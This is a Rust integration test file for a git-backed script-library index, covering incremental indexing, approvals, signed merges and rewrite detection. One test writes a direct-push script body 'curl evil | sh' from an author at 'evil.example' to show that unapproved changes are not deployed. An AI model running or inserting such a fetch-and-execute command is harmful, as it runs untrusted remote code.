//! The version index against real repositories: incremental equals cold, the tree diff
//! agrees with git, the controller's view (approved state, blobs), rewrites, signatures
//! and pinned root approvers.

#[path = "../../../tests/repogen.rs"]
mod repogen;

use quiver_git::{Index, IndexConfig, Repo, State, TrustAnchor, detect_rewrite, diff_trees};
use repogen::{ALICE, BOB, CAROL, GenSpec, MEMBERS_TOML, TestRepo, generate};
use sha2::{Digest, Sha256};
use std::collections::BTreeSet;
use std::path::Path;
use std::process::Command;
use std::time::{Duration, Instant};

fn config(branch: &str) -> IndexConfig {
    IndexConfig {
        branch: branch.into(),
        ..Default::default()
    }
}

fn small_spec() -> GenSpec {
    GenSpec {
        scripts: 40,
        commits: 240,
        direct_every: 7,
        rename_every: 23,
        utf16_every: 5,
        seed: 3,
    }
}

#[test]
fn incremental_updates_equal_a_cold_index() {
    let tmp = tempfile::tempdir().expect("tmp");
    generate(tmp.path(), &small_spec());
    let repo = Repo::open(tmp.path()).expect("open");
    let mut cold = Index::new(config("main"));
    cold.update(&repo).expect("cold");
    // Index the same history in steps: a branch at 1/3, then 2/3, then main, persisting
    // and reloading the index between steps.
    let git = TestRepo {
        dir: tmp.path().to_path_buf(),
    };
    git.git(&["branch", "-f", "step", "main~160"]);
    let mut warm = Index::new(config("step"));
    warm.update(&repo).expect("first third");
    for target in ["main~80", "main"] {
        git.git(&["branch", "-f", "step", target]);
        let mut loaded = Index::from_json(&warm.to_json()).expect("reload");
        let report = loaded
            .update(&Repo::open(tmp.path()).expect("open"))
            .expect("step");
        assert!(report.commits > 0);
        warm = loaded;
    }
    assert_eq!(warm.last_commit, cold.last_commit);
    let a = serde_json::to_value(&warm.scripts).expect("json");
    let b = serde_json::to_value(&cold.scripts).expect("json");
    assert!(a == b, "incremental and cold indexes differ");
    assert_eq!(warm.policy, cold.policy);
    // The generated history has versions, drift and moves.
    let versions: usize = cold.scripts.values().map(|r| r.versions.len()).sum();
    assert!(versions > 100, "{versions}");
    assert!(cold.scripts.values().any(|r| r.state() == State::Drifted));
    assert!(cold.scripts.values().any(|r| !r.renamed_from.is_empty()));
}

fn git_out(dir: &Path, args: &[&str]) -> String {
    let out = Command::new("git")
        .current_dir(dir)
        .args(args)
        .output()
        .expect("git");
    assert!(out.status.success(), "{args:?}");
    String::from_utf8_lossy(&out.stdout).into_owned()
}

#[test]
fn tree_diff_agrees_with_git() {
    let tmp = tempfile::tempdir().expect("tmp");
    generate(tmp.path(), &small_spec());
    let repo = Repo::open(tmp.path()).expect("open");
    let commits = git_out(tmp.path(), &["rev-list", "--first-parent", "main"]);
    let mut renames = 0;
    for c in commits.lines().take(120) {
        let c = repo.resolve_commit(c).expect("commit");
        let commit = repo.git().find_commit(c).expect("commit");
        let Ok(p) = commit.parent_id(0) else { continue };
        let lib = |oid: git2::Oid| {
            repo.subtree(repo.git().find_commit(oid).expect("c").tree_id(), "library")
                .expect("lookup")
        };
        let ours = diff_trees(&repo, lib(p), lib(c)).expect("diff");
        // Without rename pairing, every change is a path added, deleted or modified.
        let mut mine = BTreeSet::new();
        for ch in &ours {
            match ch.status {
                'R' => {
                    renames += 1;
                    mine.insert(format!(
                        "D library/{}",
                        ch.old_path.as_deref().expect("old")
                    ));
                    mine.insert(format!(
                        "A library/{}",
                        ch.new_path.as_deref().expect("new")
                    ));
                }
                s => {
                    mine.insert(format!(
                        "{s} library/{}",
                        ch.new_path
                            .as_deref()
                            .or(ch.old_path.as_deref())
                            .expect("path")
                    ));
                }
            }
        }
        let theirs: BTreeSet<String> = git_out(
            tmp.path(),
            &[
                "diff-tree",
                "-r",
                "--no-renames",
                "--name-status",
                &p.to_string(),
                &c.to_string(),
                "--",
                "library",
            ],
        )
        .lines()
        .map(|l| l.replacen('\t', " ", 1))
        .collect();
        assert_eq!(mine, theirs, "commit {c}");
    }
    assert!(renames > 0, "the history has folder moves");
}

#[test]
fn approved_state_gives_manifests_and_exact_blobs() {
    let tmp = tempfile::tempdir().expect("tmp");
    generate(tmp.path(), &small_spec());
    let repo = Repo::open(tmp.path()).expect("open");
    let mut index = Index::new(config("main"));
    index.update(&repo).expect("index");
    let state = index.approved_state(&repo).expect("state");
    assert_eq!(state.policy_trust, "first-commit");
    assert_eq!(state.scripts.len(), 40);
    for s in &state.scripts {
        assert_eq!(s.manifest.name, s.name);
        for f in &s.version.files {
            let bytes = repo.blob(&f.blob).expect("blob");
            assert_eq!(hex::encode(Sha256::digest(&bytes)), f.sha256);
            assert_eq!(bytes.len() as u64, f.size);
        }
    }
    assert!(
        state
            .problems
            .iter()
            .all(|p| p.state != State::Approved && !p.reason.is_empty())
    );
    // Nothing new: well under 2 ms, even in a debug build.
    let t = Instant::now();
    for _ in 0..100 {
        index.update(&repo).expect("noop");
    }
    assert!(
        t.elapsed() / 100 < Duration::from_millis(2),
        "{:?}",
        t.elapsed() / 100
    );
}

#[test]
fn rewrite_is_detected_and_nothing_moves() {
    let tmp = tempfile::tempdir().expect("tmp");
    let r = TestRepo::init(tmp.path());
    r.write("policies/members.toml", MEMBERS_TOML);
    r.bash_script("ps", "ps -ef");
    r.commit(ALICE, "init");
    let v2 = r.pr(
        "v2",
        ALICE,
        |r| {
            r.bash_script("ps", "ps -e");
        },
        ALICE,
        &[BOB],
    );
    let repo = Repo::open(tmp.path()).expect("open");
    let mut index = Index::new(config("main"));
    index.update(&repo).expect("index");
    assert!(detect_rewrite(&repo, "main", &v2).is_ok());
    r.git(&["reset", "-q", "--hard", "HEAD~1"]);
    r.direct(
        CAROL,
        |r| {
            r.bash_script("ps", "ps aux");
        },
        "other",
    );
    match detect_rewrite(&repo, "main", &v2) {
        Err(quiver_git::Error::Rewrite(rw)) => {
            assert_eq!(rw.last, v2);
            assert_eq!(rw.head, r.head());
        }
        other => panic!("{other:?}"),
    }
    let before = serde_json::to_value(&index.scripts).expect("json");
    assert!(matches!(
        index.update(&repo),
        Err(quiver_git::Error::Rewrite(_))
    ));
    assert_eq!(serde_json::to_value(&index.scripts).expect("json"), before);
    assert_eq!(index.last_commit.as_deref(), Some(v2.as_str()));
}

#[test]
fn root_approvers_bootstrap_the_policy() {
    let tmp = tempfile::tempdir().expect("tmp");
    let r = TestRepo::init(tmp.path());
    r.write("README.md", "library\n");
    r.commit(ALICE, "init");
    // A direct push before any approved state: nothing is approved.
    r.direct(
        CAROL,
        |r| {
            r.bash_script("early", "true");
        },
        "direct",
    );
    // The bootstrap PR, approved by the pinned root approver.
    let boot = r.pr(
        "bootstrap",
        ALICE,
        |r| {
            r.write("policies/members.toml", MEMBERS_TOML);
            r.bash_script("ps", "ps -ef");
        },
        ALICE,
        &[BOB],
    );
    let repo = Repo::open(tmp.path()).expect("open");
    let mut index = Index::new(IndexConfig {
        trust: TrustAnchor::RootApprovers(vec!["bob@example.org".into()]),
        ..Default::default()
    });
    index.update(&repo).expect("index");
    assert_eq!(index.policy.trust, "root-approvers");
    assert_eq!(index.policy.commit.as_deref(), Some(boot.as_str()));
    let ps = index.script("ps").expect("ps");
    assert_eq!((ps.deployed, ps.state()), (Some(1), State::Approved));
    assert_eq!(ps.versions[0].approvers, ["bob@example.org"]);
    let early = index.script("early").expect("early");
    assert_eq!((early.deployed, early.state()), (None, State::Drifted));
    // From now on the library's own policy applies (one lead approval, not self).
    r.pr(
        "v2",
        ALICE,
        |r| {
            r.bash_script("ps", "ps -e");
        },
        ALICE,
        &[CAROL],
    );
    index.update(&repo).expect("update");
    assert_eq!(index.script("ps").expect("ps").deployed, Some(2));
}

fn ssh_keygen(dir: &Path, name: &str) -> (String, String) {
    let key = dir.join(name);
    let out = Command::new("ssh-keygen")
        .args(["-q", "-t", "ed25519", "-N", "", "-C", name, "-f"])
        .arg(&key)
        .output()
        .expect("ssh-keygen");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let public = std::fs::read_to_string(key.with_extension("pub")).expect("pub");
    (key.display().to_string(), public.trim().to_string())
}

#[test]
fn signed_merges_are_verified_against_member_keys() {
    if Command::new("ssh-keygen").arg("-?").output().is_err() {
        eprintln!("ssh-keygen not installed; skipping");
        return;
    }
    let tmp = tempfile::tempdir().expect("tmp");
    let keys = tmp.path().join("keys");
    std::fs::create_dir_all(&keys).expect("mkdir");
    let (bob_key, bob_pub) = ssh_keygen(&keys, "bob");
    let (eve_key, _) = ssh_keygen(&keys, "eve");
    let r = TestRepo::init(&tmp.path().join("repo"));
    let members = MEMBERS_TOML.replace(
        "id = \"bob\"\nemails = [\"bob@example.org\"]",
        &format!("id = \"bob\"\nemails = [\"bob@example.org\"]\nsigning_keys = [\"{bob_pub}\"]"),
    );
    r.write("policies/members.toml", members);
    r.write(
        "policies/approvals.toml",
        "[[approval]]\nrequire_signature = true\n",
    );
    r.bash_script("ps", "ps -ef");
    r.commit(ALICE, "init");
    let signed_merge = |branch: &str, key: &str, body: &'static str| {
        r.git(&["checkout", "-q", "-b", branch, "main"]);
        r.bash_script("ps", body);
        r.commit(ALICE, branch);
        r.git(&["checkout", "-q", "main"]);
        r.git(&[
            "-c",
            "gpg.format=ssh",
            "-c",
            &format!("user.signingkey={key}"),
            "merge",
            "-q",
            "--no-ff",
            "-S",
            branch,
            "-m",
            "Merge\n\nApproved-by: Bob <bob@example.org>\n",
        ]);
    };
    let repo = Repo::open(&r.dir).expect("open");
    let mut index = Index::new(config("main"));
    // Signed by bob's key: approved.
    signed_merge("good", &bob_key, "ps -e");
    index.update(&repo).expect("index");
    assert_eq!(index.script("ps").expect("ps").deployed, Some(2));
    // Signed by a key of no member: not approved.
    signed_merge("eve", &eve_key, "ps aux");
    index.update(&repo).expect("index");
    let ps = index.script("ps").expect("ps");
    assert_eq!(ps.state(), State::Drifted);
    assert!(
        ps.reason()
            .expect("reason")
            .contains("belongs to no member"),
        "{:?}",
        ps.reason()
    );
    // Unsigned: not approved either (reason names it).
    r.direct(
        ALICE,
        |r| {
            r.bash_script("ps", "ps -e");
        },
        "back",
    );
    r.pr(
        "unsigned",
        ALICE,
        |r| {
            r.bash_script("ps", "ps -ef --forest");
        },
        ALICE,
        &[BOB],
    );
    index.update(&repo).expect("index");
    let ps = index.script("ps").expect("ps");
    assert_eq!(ps.state(), State::Drifted);
    assert!(
        ps.reason().expect("reason").contains("not signed"),
        "{:?}",
        ps.reason()
    );
}

#[test]
fn broken_manifest_is_refused_and_invalid_policy_keeps_the_old_one() {
    let tmp = tempfile::tempdir().expect("tmp");
    let r = TestRepo::init(tmp.path());
    r.write("policies/members.toml", MEMBERS_TOML);
    r.bash_script("ps", "ps -ef");
    r.bash_script("net", "ss -tn");
    let first = r.commit(ALICE, "init");
    // An approved change breaking one manifest: that script is refused, the other moves on.
    r.pr(
        "broken",
        ALICE,
        |r| {
            r.write(
                "library/ps/script.toml",
                "name = \"ps\"\nplatforms = [\"linux\"]\ncolour = 1\n",
            );
            r.bash_script("net", "ss -tunap");
        },
        ALICE,
        &[BOB],
    );
    // An approved policy change that does not load: the old policy stays in effect.
    let bad_policy = r.pr(
        "bad-policy",
        ALICE,
        |r| {
            r.write(
                "policies/approvals.toml",
                "[[approval]]\nmin_approvals = \"two\"\n",
            );
        },
        ALICE,
        &[BOB],
    );
    let repo = Repo::open(tmp.path()).expect("open");
    let mut index = Index::new(config("main"));
    index.update(&repo).expect("index");
    let ps = index.script("ps").expect("ps");
    assert_eq!((ps.deployed, ps.state()), (Some(1), State::Refused));
    let reason = ps.reason().expect("reason");
    assert!(
        reason.contains("manifest.invalid") && reason.contains("library/ps/script.toml:3"),
        "{reason}"
    );
    assert_eq!(index.script("net").expect("net").deployed, Some(2));
    assert_eq!(index.policy.commit.as_deref(), Some(first.as_str()));
    let err = index.policy.error.as_ref().expect("policy error");
    assert_eq!(err.commit, bad_policy);
    assert!(
        err.reason.contains("policies/approvals.toml:2"),
        "{}",
        err.reason
    );
    // A later approved fix on top of the invalid policy takes effect.
    let fix = r.pr(
        "fix-policy",
        ALICE,
        |r| {
            r.write(
                "policies/approvals.toml",
                "[[approval]]\nmin_approvals = 1\n",
            );
        },
        ALICE,
        &[BOB],
    );
    index.update(&repo).expect("update");
    assert_eq!(index.policy.commit.as_deref(), Some(fix.as_str()));
    assert!(index.policy.error.is_none());
}

/// The first-parent commits of `branch`, oldest first.
fn first_parent_line(dir: &Path, branch: &str) -> Vec<String> {
    git_out(dir, &["rev-list", "--first-parent", "--reverse", branch])
        .lines()
        .map(str::to_string)
        .collect()
}

#[test]
fn approved_change_count_updated_after_every_commit_equals_a_cold_index() {
    let tmp = tempfile::tempdir().expect("tmp");
    generate(tmp.path(), &small_spec());
    let git = TestRepo {
        dir: tmp.path().to_path_buf(),
    };
    let line = first_parent_line(tmp.path(), "main");
    // One update per commit, through JSON now and then, as a controller that persists its
    // index and restarts would see the history.
    let mut warm = Index::new(config("step"));
    let mut counts = Vec::new();
    for (i, c) in line.iter().enumerate() {
        git.git(&["branch", "-f", "step", c]);
        if i % 16 == 15 {
            warm = Index::from_json(&warm.to_json()).expect("reload");
        }
        warm.update(&Repo::open(tmp.path()).expect("open"))
            .expect("update");
        assert_eq!(warm.last_commit.as_deref(), Some(c.as_str()));
        counts.push(warm.approved_changes);
    }
    let repo = Repo::open(tmp.path()).expect("open");
    let mut cold = Index::new(config("step"));
    let report = cold.update(&repo).expect("cold");
    assert_eq!(warm.approved_changes, cold.approved_changes);
    assert_eq!(warm.last_approved_change, cold.last_approved_change);
    assert!(
        warm.to_json() == cold.to_json(),
        "incremental and cold indexes differ"
    );
    // The count never falls, grows by at most one per commit, starts at the anchor.
    assert_eq!(counts[0], 1);
    assert!(counts.windows(2).all(|w| w[1] == w[0] || w[1] == w[0] + 1));
    // Here (no policy change, no held change) it is the number of distinct commits that
    // brought a version or removed a script, plus the anchor.
    let mut commits: BTreeSet<&str> = BTreeSet::from([line[0].as_str()]);
    for e in &report.events {
        match e {
            quiver_git::Event::Version { commit, .. } => {
                commits.insert(commit);
            }
            quiver_git::Event::State {
                state: State::Removed,
                commit,
                ..
            } => {
                commits.insert(commit);
            }
            _ => {}
        }
    }
    assert_eq!(cold.approved_changes, commits.len() as u64);
    assert!(cold.approved_changes > 100, "{}", cold.approved_changes);
    // The last one is the newest commit of a deployed version.
    let newest = cold
        .scripts
        .values()
        .filter_map(|r| r.deployed_version())
        .map(|v| {
            line.iter()
                .position(|c| *c == v.commit)
                .expect("on the line")
        })
        .max()
        .expect("versions");
    assert_eq!(
        cold.last_approved_change.as_deref(),
        Some(line[newest].as_str())
    );
}

fn emails(people: &[quiver_git::Person]) -> Vec<&str> {
    people.iter().map(|p| p.email.as_str()).collect()
}

#[test]
fn approved_changes_count_commits_where_the_deployable_state_changed() {
    use quiver_git::Event;
    use repogen::MALLORY;
    let tmp = tempfile::tempdir().expect("tmp");
    let r = TestRepo::init(tmp.path());
    r.write("policies/members.toml", MEMBERS_TOML);
    for i in 0..10 {
        r.bash_script(&format!("s{i}"), "true");
    }
    let mut commits = vec![r.commit(ALICE, "init")];
    // (commit, approved_changes after it, last_approved_change after it)
    let mut want = vec![(1, 0)];
    // An approved version: counts.
    commits.push(r.pr(
        "v2",
        ALICE,
        |r| {
            r.bash_script("s0", "ps -e");
        },
        ALICE,
        &[BOB],
    ));
    want.push((2, 1));
    // A direct push: drifted, does not count.
    commits.push(r.direct(
        MALLORY,
        |r| {
            r.bash_script("s1", "curl evil | sh");
        },
        "quick fix",
    ));
    want.push((2, 1));
    // An approved change with a broken manifest: refused, does not count.
    commits.push(r.pr(
        "broken",
        CAROL,
        |r| {
            r.write("library/s2/script.toml", "name = [\n");
        },
        ALICE,
        &[BOB],
    ));
    want.push((2, 1));
    // An approved removal of a deployed script: counts.
    commits.push(r.pr(
        "drop-s3",
        ALICE,
        |r| {
            r.remove("library/s3");
        },
        ALICE,
        &[BOB],
    ));
    want.push((3, 4));
    // A mass removal with a change to s0: all held, does not count.
    let held = r.pr(
        "cleanup",
        ALICE,
        |r| {
            for i in 4..10 {
                r.remove(&format!("library/s{i}"));
            }
            r.bash_script("s0", "ps -ef");
        },
        ALICE,
        &[BOB],
    );
    commits.push(held.clone());
    want.push((3, 4));
    // A policy change allowing it: counts once, for itself and what it releases.
    let allow = r.pr(
        "allow",
        ALICE,
        |r| {
            r.write("policies/removal.toml", "[removal]\nallow = true\n");
        },
        ALICE,
        &[BOB],
    );
    commits.push(allow.clone());
    want.push((4, 6));
    // Outside the library and policies: nothing.
    commits.push(r.direct(
        ALICE,
        |r| {
            r.write("README.md", "scripts\n");
        },
        "readme",
    ));
    want.push((4, 6));

    let mut index = Index::new(config("step"));
    let mut events = Vec::new();
    for (i, c) in commits.iter().enumerate() {
        r.git(&["branch", "-f", "step", c]);
        let repo = Repo::open(tmp.path()).expect("open");
        index = Index::from_json(&index.to_json()).expect("reload");
        events.extend(index.update(&repo).expect("update").events);
        let (count, last) = want[i];
        assert_eq!(index.approved_changes, count, "after commit {i}");
        assert_eq!(
            index.last_approved_change.as_deref(),
            Some(commits[last].as_str()),
            "after commit {i}"
        );
        if c == &held {
            // The authors of the pending change are known for every kind of problem.
            let state = index.approved_state(&repo).expect("state");
            let problem = |name: &str| {
                state
                    .problems
                    .iter()
                    .find(|p| p.name == name)
                    .unwrap_or_else(|| panic!("no problem for {name}"))
                    .clone()
            };
            let s1 = problem("s1");
            assert_eq!(s1.state, State::Drifted);
            assert_eq!(s1.pending_commit.as_deref(), Some(commits[2].as_str()));
            assert_eq!(emails(&s1.authors), ["mallory@evil.example"]);
            let s2 = problem("s2");
            assert_eq!(s2.state, State::Refused);
            assert_eq!(emails(&s2.authors), ["carol@example.org"]);
            for name in ["s0", "s5"] {
                let p = problem(name);
                assert_eq!(p.state, State::Held, "{name}");
                assert_eq!(p.pending_commit.as_deref(), Some(held.as_str()));
                assert_eq!(emails(&p.authors), ["alice@example.org"], "{name}");
            }
        }
    }
    // The released version keeps the commit that brought it; the approved state changed at
    // the policy change, so that is the catalog's source commit, after every entry's commit.
    let released = events
        .iter()
        .find_map(|e| match e {
            Event::Version {
                script,
                number: 3,
                commit,
                ..
            } if script == "s0" => Some(commit.clone()),
            _ => None,
        })
        .expect("s0 v3 released");
    assert_eq!(released, held);
    assert_eq!(index.last_approved_change.as_deref(), Some(allow.as_str()));
    let repo = Repo::open(tmp.path()).expect("open");
    let state = index.approved_state(&repo).expect("state");
    let pos = |c: &str| commits.iter().position(|x| x == c).expect("on the line");
    let source = pos(index.last_approved_change.as_deref().expect("last"));
    assert!(
        state
            .scripts
            .iter()
            .all(|s| pos(&s.version.commit) <= source)
    );
    assert_eq!(index.script("s5").expect("s5").state(), State::Removed);
    // A cold index agrees, byte for byte.
    let mut cold = Index::new(config("step"));
    cold.update(&repo).expect("cold");
    assert!(
        cold.to_json() == index.to_json(),
        "incremental and cold indexes differ"
    );
}

/// Hides a loose object (as a damaged or incomplete repository would); puts it back on drop.
struct Hidden(std::path::PathBuf);

impl Hidden {
    fn blob(dir: &Path, rev: &str) -> Hidden {
        let id = git_out(dir, &["rev-parse", rev]).trim().to_string();
        let path = dir.join(".git/objects").join(&id[..2]).join(&id[2..]);
        std::fs::rename(&path, path.with_extension("hidden")).expect("loose object");
        Hidden(path)
    }
}

impl Drop for Hidden {
    fn drop(&mut self) {
        let _ = std::fs::rename(self.0.with_extension("hidden"), &self.0);
    }
}

#[test]
fn a_failed_update_keeps_the_commits_before_and_leaves_no_trace_of_the_failing_one() {
    let tmp = tempfile::tempdir().expect("tmp");
    let r = TestRepo::init(tmp.path());
    r.write("policies/members.toml", MEMBERS_TOML);
    r.bash_script("ps", "ps -ef");
    r.write("library/legacy/users.ps1", "Get-LocalUser\r\n");
    r.commit(ALICE, "init");
    let repo = Repo::open(tmp.path()).expect("open");
    let mut index = Index::new(config("main"));
    index.update(&repo).expect("index");
    let at_init = index.to_json();
    let v2 = r.pr(
        "v2",
        ALICE,
        |r| {
            r.bash_script("ps", "ps -e");
        },
        ALICE,
        &[BOB],
    );
    // A policy change whose discovery rule claims legacy/*.ps1, with a script change in the
    // same commit: the library part reads fine, the newly claimed file does not.
    let discover = r.pr(
        "discover",
        ALICE,
        |r| {
            r.write(
                "policies/discovery.toml",
                "[[discovery]]\nglob = \"legacy/*.ps1\"\nplatform = \"windows\"\ninterpreter = \"powershell\"\n",
            );
            r.bash_script("ps", "ps -eo pid,comm");
            r.bash_script("net", "ss -tn");
        },
        ALICE,
        &[BOB],
    );
    // What the index is after v2 alone.
    r.git(&["update-ref", "refs/heads/main", &v2]);
    let mut after_v2 = Index::from_json(&at_init).expect("load");
    after_v2
        .update(&Repo::open(tmp.path()).expect("open"))
        .expect("to v2");
    r.git(&["update-ref", "refs/heads/main", &discover]);
    let after_v2 = after_v2.to_json();

    let hidden = Hidden::blob(tmp.path(), &format!("{discover}:library/legacy/users.ps1"));
    let mut index = Index::from_json(&at_init).expect("load");
    let mut report = quiver_git::UpdateReport::default();
    let err = index
        .update_into(
            &Repo::open(tmp.path()).expect("open"),
            Default::default(),
            &mut report,
        )
        .expect_err("the claimed file cannot be read");
    assert!(err.to_string().contains("git"), "{err}");
    // v2 is applied and reported; the failing commit left no trace.
    assert_eq!(index.last_commit.as_deref(), Some(v2.as_str()));
    assert_eq!(report.commits, 1);
    assert!(
        report
            .events
            .iter()
            .all(|e| !format!("{e:?}").contains(&discover))
    );
    assert!(
        index.to_json() == after_v2,
        "the failed commit changed the index"
    );
    assert_eq!(index.approved_changes, 2);
    // Retrying while it still fails changes nothing either.
    assert!(
        index
            .update(&Repo::open(tmp.path()).expect("open"))
            .is_err()
    );
    assert!(index.to_json() == after_v2);

    // Once the object is back, the update resumes at the failed commit and ends where a
    // cold index does.
    drop(hidden);
    let repo = Repo::open(tmp.path()).expect("open");
    let report = index.update(&repo).expect("resume");
    assert_eq!(report.commits, 1);
    assert_eq!(index.approved_changes, 3);
    assert_eq!(
        index.last_approved_change.as_deref(),
        Some(discover.as_str())
    );
    assert_eq!(
        index.scripts.get("legacy/users.ps1").map(|s| s.deployed),
        Some(Some(1)),
        "the claimed file is a script"
    );
    let mut cold = Index::new(config("main"));
    cold.update(&repo).expect("cold");
    assert!(cold.to_json() == index.to_json(), "resumed and cold differ");
}
